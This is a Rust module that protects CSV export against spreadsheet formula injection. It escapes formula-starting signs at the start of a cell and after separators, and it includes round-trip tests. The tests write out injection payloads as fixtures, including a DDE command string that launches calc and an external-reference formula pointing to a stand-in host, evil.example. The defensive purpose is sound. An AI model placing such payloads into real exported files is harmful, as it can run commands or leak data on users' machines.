//! Cells that a spreadsheet would run, made plain text and back again.
//!
//! A CSV is written with commas and quotes, but whoever opens it may have a computer that separates cells by semicolons, tabs or
//! bars. Then `x;=1+1` is two cells, and the second is a formula. So what could run is looked for at the beginning of a cell
//! and behind everything within it that separates cells or lines somewhere, and gets an apostrophe: OWASP, "CSV Injection".
//!
//! Workbooks need none of this: their cells say that they are text. Nor do cells on the clipboard (`rows::clip`), which people
//! carry to a sheet and back and which must come back as they were.

/// Signs at the start of a cell that a spreadsheet could run: OWASP, "CSV Injection" (list with line feed since August 2025),
/// and their full-width forms.
const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
/// What separates cells or lines, in one country or another.
const SEPARATORS: [char; 17] =
    [',', ';', '\t', '|', '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}', '\u{60c}', '\u{61b}', '、', '，', '；', '｜'];
/// What a spreadsheet may pass over on its way to a sign.
const PASSED_OVER: [char; 9] = [' ', '\u{a0}', '"', '\'', '\u{feff}', '\u{3000}', '\0', '\u{b}', '\u{c}'];

/// The cell with an apostrophe in front of whatever could run.
pub fn defused(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len() + 1);
    let mut rest = cell;
    let mut is_start = true;
    loop {
        if could_run(rest, is_start) {
            text.push('\'');
        }
        is_start = false;
        let Some(next) = behind_separator(rest) else { break };
        text.push_str(&rest[..next]);
        rest = &rest[next..];
    }
    text.push_str(rest);
    text
}

/// The cell as it was before [`defused`].
pub fn restored(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len());
    let mut rest = cell;
    let mut is_start = true;
    loop {
        rest = rest.strip_prefix('\'').filter(|bare| could_run(bare, is_start)).unwrap_or(rest);
        is_start = false;
        let Some(next) = behind_separator(rest) else { break };
        text.push_str(&rest[..next]);
        rest = &rest[next..];
    }
    text.push_str(rest);
    text
}

/// Where the text goes on behind its first separator, in bytes.
fn behind_separator(text: &str) -> Option<usize> {
    text.match_indices(SEPARATORS).next().map(|(place, separator)| place + separator.len())
}

/// Whether a cell that begins here could run. At its start every sign counts, as OWASP has it. Within a cell a plus or a minus
/// is a telephone number or an item of a list much more often; there it counts when something on its line could call a
/// function or reach outside of the cell.
fn could_run(rest: &str, is_start: bool) -> bool {
    let bare = rest.trim_start_matches(PASSED_OVER);
    let Some(sign) = bare.chars().next().filter(|first| SIGNS.contains(first)) else { return false };
    let line = || bare.split(['\n', '\r']).next().unwrap_or_default();
    match sign {
        _ if is_start => true,
        '\t' | '\r' | '\n' => false,
        '+' | '-' | '＋' | '－' => line().contains(['(', '!', '|', '（', '！', '｜', '\'', '#', '[']),
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_could_run_anywhere_is_text() {
        let check = |cell: &str, expected: &str| {
            assert_eq!(defused(cell), expected, "{cell:?}");
            assert_eq!(restored(expected), cell, "{expected:?}");
        };
        check("=1+1", "'=1+1");
        check("+49", "'+49");
        check("-1", "'-1");
        check("@SUM(A1)", "'@SUM(A1)");
        check("\t=1", "'\t'=1");
        check("\n=1", "'\n'=1");
        check("＝1", "'＝1");
        check(" =1", "' =1");
        check("\"=1\"", "'\"=1\"");
        for separator in SEPARATORS {
            check(&format!("x{separator}=cmd()"), &format!("x{separator}'=cmd()"));
            check(&format!("x{separator} \"@cmd()"), &format!("x{separator}' \"@cmd()"));
            check(&format!("x{separator}－cmd(1)"), &format!("x{separator}'－cmd(1)"));
        }
        check("x;-cmd|'/C calc'!A0", "x;'-cmd|'/C calc'!A0");
        check("x;－cmd｜’/c calc’！A0", "x;'－cmd｜’/c calc’！A0");
        check("x;+'http://evil.example/x.ods'#$Sheet1.A1", "x;'+'http://evil.example/x.ods'#$Sheet1.A1");
        check("\u{3000}=1+1", "'\u{3000}=1+1");
        check("\0=cmd|x", "'\0=cmd|x");
        check("=a;=b\r\n=c", "'=a;'=b\r\n'=c");
        check("'=1", "''=1");
        check("x;'=1", "x;''=1");
    }

    #[test]
    fn what_people_write_stays_as_it_was() {
        for cell in
            ["", "Ada", "a;b", "Lovelace, Ada", "170 1; +49 170 2", "3;-5,-7", "Bring:\n- a pen\n- your card", "O'Neil", "'s Heeren", "x=1"]
        {
            assert_eq!(defused(cell), cell);
            assert_eq!(restored(cell), cell);
        }
    }

    /// Whatever stands in a cell, a program with any separator finds no cell in the whole file that begins with a sign, and
    /// what was there comes back.
    #[test]
    fn no_separator_brings_a_formula_to_life() {
        const BITS: [&str; 16] = ["=1", "+a(", "-", "@x", "＝", "'", "\"", " ", ",", ";", "\t", "|", "\n", "\r", "x", "ü"];
        let mut rng = 7_u64;
        let mut pick = move |sides: usize| {
            rng = rng.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (rng >> 33) as usize % sides
        };
        for _ in 0..20_000 {
            let cell: String = (0..pick(9)).map(|_| BITS[pick(BITS.len())]).collect();
            let safe = defused(&cell);
            assert_eq!(restored(&safe), cell, "{safe:?}");
            for piece in safe.split(SEPARATORS) {
                let bare = piece.trim_start_matches([' ', '"']);
                assert!(!bare.starts_with(['=', '@', '＝', '＠']), "{cell:?} {safe:?}");
            }
        }
    }
}
